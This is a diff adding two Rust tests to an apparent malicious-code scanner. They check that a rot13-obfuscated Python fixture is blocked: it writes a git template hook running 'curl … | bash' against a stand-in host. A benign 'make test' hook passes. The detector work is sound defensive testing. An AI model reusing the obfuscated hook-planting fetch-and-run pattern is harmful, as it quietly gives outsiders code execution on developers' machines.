@@ -400,3 +400,32 @@ open("report.sh", "w").write(HOOK)
     assert!(!rules(&a).contains(&"MB910"), "{:?}", a.findings);
     assert!(a.verdict < Verdict::High, "{:?}", a.findings);
 }
+
+/// A hook script the program decodes before writing it, which fetches a
+/// script and runs it: judged like the same script kept as a literal
+/// (8ee649d: LOW).
+#[test]
+fn a_decoded_script_written_out_is_judged_by_its_commands() {
+    let hook = r##"import codecs, os
+BODY = codecs.decode("#!/ova/fu\nphey -f uggcf://k.rknzcyr.pbz/v | onfu\n", "rot13")
+path = os.path.expanduser("~/.git-templates/hooks/post-merge")
+with open(path, "w") as fh:
+    fh.write(BODY)
+os.chmod(path, 0o755)
+"##;
+    let a = run(hook);
+    assert!(rules(&a).contains(&"MB908"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// A decoded hook that runs the project's own tests fetches nothing.
+#[test]
+fn a_decoded_script_running_local_commands_is_harmless() {
+    let hook = r##"import codecs, os
+BODY = codecs.decode("#!/ova/fu\nznxr grfg\n", "rot13")
+with open(".git/hooks/pre-commit", "w") as fh:
+    fh.write(BODY)
+"##;
+    let a = run(hook);
+    assert!(!rules(&a).contains(&"MB908"), "{:?}", a.findings);
+}
